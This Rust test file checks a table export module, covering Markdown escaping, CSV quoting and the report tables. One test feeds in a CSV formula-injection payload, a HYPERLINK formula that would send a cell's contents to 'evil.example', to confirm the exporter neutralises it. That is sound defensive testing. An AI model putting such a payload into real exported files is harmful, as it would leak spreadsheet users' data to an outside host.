//! Tests of `table_export`.

use super::*;
use crate::storage::Store;

fn sample() -> ReportData {
    let store = Store::open_in_memory().expect("store");
    let p = store
        .seed_sample_on_first_start()
        .expect("seed")
        .expect("sample");
    let today = chrono::NaiveDate::from_ymd_opt(2026, 11, 21).expect("date");
    store.report_data(p.id, today).expect("data")
}

#[test]
fn markdown_escapes_pipes_and_line_breaks() {
    assert_eq!(markdown_cell(" a | b\nc\r\nd "), "a \\| b<br>c<br>d");
    assert_eq!(markdown_cell("back\\slash"), "back\\\\slash");
    let grid = Grid {
        header: strings(&["Goal", "Metric"]),
        rows: vec![
            strings(&["Keep | up", "line one\nline two"]),
            strings(&["", "x"]),
        ],
    };
    assert_eq!(
        to_markdown("Atlas", ExportTable::Alignment, &grid),
        "# Atlas — North Star alignment\n\n| Goal | Metric |\n|---|---|\n\
             | Keep \\| up | line one<br>line two |\n|  | x |\n"
    );
}

#[test]
fn csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
    let grid = Grid {
        header: strings(&["Title"]),
        rows: vec![
            strings(&["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]),
            strings(&["+1"]),
            strings(&["-2"]),
            strings(&["@SUM(A1)"]),
            strings(&["\tx"]),
            strings(&["\rx"]),
            strings(&["plain = text"]),
            strings(&["'quoted already"]),
        ],
    };
    let csv = to_csv(&grid).expect("csv");
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.expect("record")[0].to_owned())
        .collect();
    for cell in &cells[..6] {
        assert!(cell.starts_with('\''), "{cell:?} is defused");
    }
    assert_eq!(cells[6], "plain = text");
    assert_eq!(cells[7], "'quoted already");
    let back: Vec<&str> = cells.iter().map(|c| restore_formula(c)).collect();
    let original: Vec<&str> = grid.rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(back, original, "the CSV import undoes it exactly");
    let markdown = to_markdown("P", ExportTable::Gaps, &grid);
    assert!(
        markdown.contains("| =HYPERLINK("),
        "Markdown keeps the text exact"
    );
}

#[test]
fn csv_quotes_what_rfc_4180_requires() {
    let grid = Grid {
        header: strings(&["A", "B"]),
        rows: vec![strings(&["comma, here", "quote \" and\nbreak"])],
    };
    let text = String::from_utf8(to_csv(&grid).expect("csv")).expect("utf-8");
    assert_eq!(text, "A,B\r\n\"comma, here\",\"quote \"\" and\nbreak\"\r\n");
}

#[test]
fn the_questions_table_names_the_practices_in_place_and_the_risk() {
    use crate::domain::lens;
    use crate::domain::review::Answer;
    let store = Store::open_in_memory().expect("store");
    let orr = lens::read_file(&lens::tests::samples().join("ORR-Whitepaper-Sample-PUBLISHED.json"))
        .expect("lens");
    let framework = store.import_lens(&orr).expect("import").framework_id;
    let draft = crate::domain::ProjectDraft {
        name: "Checkout".into(),
        ..crate::domain::ProjectDraft::default()
    };
    let project = store.create_project(&draft, &framework).expect("project");
    let (first, second) = (&orr.pillars[0].questions[0], &orr.pillars[0].questions[1]);
    let all = Answer {
        choices: first.choices.iter().map(|c| c.id.clone()).collect(),
        note: "Both | reviewed".into(),
        ..Answer::default()
    };
    store
        .answer_question(project.id, &first.id, &all)
        .expect("answer");
    let none = Answer {
        none: true,
        ..Answer::default()
    };
    store
        .answer_question(project.id, &second.id, &none)
        .expect("answer");
    let today = chrono::NaiveDate::from_ymd_opt(2026, 11, 21).expect("date");
    let data = store.report_data(project.id, today).expect("data");
    let g = grid(&data, ExportTable::Questions);
    assert_eq!(g.rows.len(), 16);
    let titles: Vec<&str> = first.choices.iter().map(|c| c.title.trim()).collect();
    assert_eq!(g.rows[0][0], orr.pillars[0].name.trim());
    assert_eq!(g.rows[0][1], first.title.trim());
    assert_eq!(g.rows[0][2], titles.join("; "));
    assert_eq!(g.rows[0][3], "No risk");
    assert_eq!(g.rows[1][2], "None of these");
    assert_ne!(g.rows[1][3], "Unanswered");
    assert_eq!(g.rows[2][3], "Unanswered");
    let md = String::from_utf8(
        render(&data, ExportTable::Questions, TableFormat::Markdown, false).expect("md"),
    )
    .expect("utf-8");
    assert!(md.contains("| No risk | Both \\| reviewed |"), "{md}");
    let csv = render(&data, ExportTable::Questions, TableFormat::Csv, false).expect("csv");
    assert_eq!(
        csv::Reader::from_reader(csv.as_slice()).records().count(),
        16
    );
}

#[test]
fn every_table_of_the_sample_has_its_columns_and_rows() {
    let data = sample();
    for table in ExportTable::ALL {
        let g = grid(&data, table);
        // The sample project has no review questions; the test above covers them.
        assert!(
            !g.rows.is_empty() || table == ExportTable::Questions,
            "{table:?} is empty in the sample"
        );
        assert!(g.rows.iter().all(|r| r.len() == g.header.len()));
        let md = String::from_utf8(render(&data, table, TableFormat::Markdown, false).expect("md"))
            .expect("utf-8");
        assert_eq!(
            md.lines().filter(|l| l.starts_with('|')).count(),
            g.rows.len() + 2
        );
        let csv = render(&data, table, TableFormat::Csv, false).expect("csv");
        let mut reader = csv::Reader::from_reader(csv.as_slice());
        assert_eq!(reader.records().count(), g.rows.len());
    }
    let questions = grid(&data, ExportTable::Questions);
    assert_eq!(
        questions.header,
        ["Pillar", "Question", "Practices in Place", "Risk", "Note"]
    );
    let triggers = grid(&data, ExportTable::DataInventory);
    assert_eq!(triggers.header[5], "Classification");
    assert_eq!(
        ExportTable::parse("data-inventory").expect("id"),
        ExportTable::DataInventory
    );
    assert!(ExportTable::parse("data_inventory").is_err());
}
